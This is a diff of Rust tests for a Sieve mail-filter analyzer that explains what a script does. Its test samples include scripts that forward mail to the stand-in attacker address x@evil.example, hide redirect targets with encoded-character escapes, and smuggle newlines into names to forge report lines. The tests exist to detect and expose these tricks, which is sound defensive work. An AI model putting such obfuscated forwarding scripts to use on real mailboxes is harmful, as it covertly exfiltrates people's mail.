@@ -112,7 +112,7 @@ fn every_spelling_of_an_action_is_found() {
     assert!(!all.discards && all.answers && all.rejects && all.notifies && all.runs_programs && all.moves_away);
     assert_eq!(all.files_into.first().map(String::as_str), Some("Trash"));
     assert_eq!(all.flags.iter().map(String::as_str).collect::<Vec<_>>(), ["\\Deleted", "\\Seen", "x"]);
-    assert_eq!(all.includes.first().map(String::as_str), Some("other"));
+    assert_eq!(all.includes.first().map(|include| include.name.as_str()), Some("other"));
     assert_eq!(all.others.first().map(String::as_str), Some("frobnicate"));
     assert_eq!(effects(b"keep; stop;"), super::Effects::default());
 }
@@ -183,6 +183,102 @@ fn what_is_included_belongs_to_the_question() {
     }
     let inner = Change::Delete { name: "inner".to_owned() };
     assert!(facts(&inner, &read(&inner))[0].contains("the script that runs includes it"), "by way of another");
+}
+
+#[test]
+fn what_included_scripts_do_is_shown_under_their_names() {
+    let outer = "include :personal \"Inner\";\ninclude :global \"company\";\ninclude :once :optional \"maybe\";\ninclude \"gone\";\nfileinto \"A\";\n";
+    let all = stored(
+        &[
+            ("main", OLD),
+            ("outer", outer),
+            ("inner", "redirect \"x@evil.example\"; include \"deep\"; include \"outer\";"),
+            ("deep", "discard; fileinto \"Sales\"; include :global \"deeper\";"),
+            ("apart", "vacation \"away\";"),
+        ],
+        Some("main"),
+    );
+    let on = Change::Activate { name: Some("outer".to_owned()) };
+    insta::assert_snapshot!(facts(&on, &all)[..4].join("\n"), @r#"
+    Runs from now on: outer
+    Ran until now: main
+    Look out: Runs other scripts, too: "deep", "inner"
+    In the included "deep": throws mail away
+    In the included "inner": sends mail on to x@evil.example
+    Runs "company" of your server, which can't be read here: what it does is not known
+    Runs "deeper" of your server, which can't be read here: what it does is not known
+    Runs "gone", which is not there now
+    Runs "maybe" as soon as there is one: there is none now
+    What it does: Files mail into A
+    In the included "deep": files mail into Sales
+    "#);
+    let audience = on.part(&all).operation.audience.unwrap();
+    assert_eq!(audience.members[0].address, "x@evil.example");
+    // Of the script that is stored it is the text that will be there.
+    let put = Change::Put { name: "deep".to_owned(), script: b"include \"inner\"; keep;".to_vec() };
+    insta::assert_snapshot!(facts(&put, &all).join("\n"), @r#"
+    Script: deep (it does not run now)
+    Look out: Runs other scripts, too: "inner", "outer"
+    In the included "inner": sends mail on to x@evil.example
+    Runs "company" of your server, which can't be read here: what it does is not known
+    Runs "gone", which is not there now
+    Runs "maybe" as soon as there is one: there is none now
+    What it does: In the included "outer": files mail into A
+    What it does no more: Throws mail away
+    Runs "deeper" of your server, which can't be read here: what it does is not known
+    Files mail into Sales
+    New lines: include "inner"; keep;
+    Lines taken away: discard; fileinto "Sales"; include :global "deeper";
+    "#);
+    // A name that is made up as it runs may be any.
+    let put = Change::Put { name: "any".to_owned(), script: b"include \"${x}\";".to_vec() };
+    let any = facts(&put, &all).join("\n");
+    assert!(any.contains("It may be any of yours") && any.contains("In the included \"apart\": answers mail"), "{any}");
+    // Nothing that a script says begins a line of ours.
+    let put = Change::Put {
+        name: "x".to_owned(),
+        script: b"include \"y\nThrows nothing away\"; redirect \"a@b\nX\";".to_vec(),
+    };
+    let lines = facts(&put, &all);
+    assert!(lines[1].ends_with("Runs \"y\\nThrows nothing away\", which is not there now"), "{lines:?}");
+    assert!(lines[1].contains("Sends mail on to a@b\\nX\n"), "{lines:?}");
+}
+
+#[test]
+fn attack_no_spelling_hides_whom_mail_goes_to() {
+    let members = |script: &str| {
+        let change = Change::Put { name: "main".to_owned(), script: script.as_bytes().to_vec() };
+        let audience = change.part(&Stored::default()).operation.audience.expect("somebody");
+        audience.members.into_iter().map(|one| one.address).collect::<Vec<_>>()
+    };
+    let encoded = "require [\"encoded-character\", \"copy\"];\nredirect :copy \"x${hex:40}evil${unicode: 2e}example\";";
+    assert_eq!(members(encoded), ["x@evil.example"]);
+    assert_eq!(members("redirect \"${hex:61}@evil.example\";"), ["${hex:61}@evil.example"], "nobody decodes it");
+    let wrong = "require \"encoded-character\"; redirect \"${hex:+a}${x ${hex:4}${unicode:d800}@${hex:78}\";";
+    assert_eq!(members(wrong), ["${hex:+a}${x ${hex:4}${unicode:d800}@x"]);
+    let require = "require [\"encoded-character\", \"enotify\"];\n";
+    assert_eq!(members(&format!("{require}notify \"${{hex:6d 61}}ilto:a%40evil.example\";")), ["a@evil.example"]);
+    let several = "notify \"mailto:me@own.example,b@x?subject=hi&CC=c@y%2Cd%40z&b%63c=e@w\";";
+    assert_eq!(members(several), ["b@x", "c@y", "d@z", "e@w", "me@own.example"]);
+    assert_eq!(members("set \"m\" \"mailto:e@x\"; notify :message \"m\" \"${m}\";"), ["${m}"]);
+    assert_eq!(members("notify :method \"mailto\" :options [\"a@x\", \"b@y\"] :message \"m\";"), ["a@x", "b@y"]);
+    assert_eq!(members("report \"abuse\" \"look\" \"a@x\";"), ["a@x"]);
+    assert_eq!(members("redirect :list \"tag:x,2026:all\";"), ["tag:x,2026:all"]);
+    // What no server takes is shown all the same.
+    assert_eq!(members("\"x\" redirect \"a@x\";"), ["a@x"]);
+    assert_eq!(members("keep redirect \"a@x\";"), ["a@x"]);
+    let alone = Change::Put { name: "a".to_owned(), script: b"# x\rredirect \"a@x\";".to_vec() };
+    assert!(alone.part(&Stored::default()).operation.opaque, "a comment's end is in doubt");
+    for (script, does) in [
+        ("addheader \"X\" \"y\";", "Changes mail itself"),
+        ("foreverypart { replace \"gone\"; }", "Changes mail itself"),
+        ("redirect \"${to}\";", "Sends mail on to an address that it makes up as it runs: ${to}"),
+        ("fileinto :mailboxid \"F1\" \"INBOX\";", "Files mail into F1, INBOX"),
+    ] {
+        let words = [effects(script.as_bytes()).grave(), effects(script.as_bytes()).filing()].concat().join("\n");
+        assert!(words.contains(does), "{script}: {words}");
+    }
+    assert_eq!(effects(b"foreverypart { extracttext :first 9 \"x\"; break; }"), super::Effects::default());
 }
 
 proptest! {
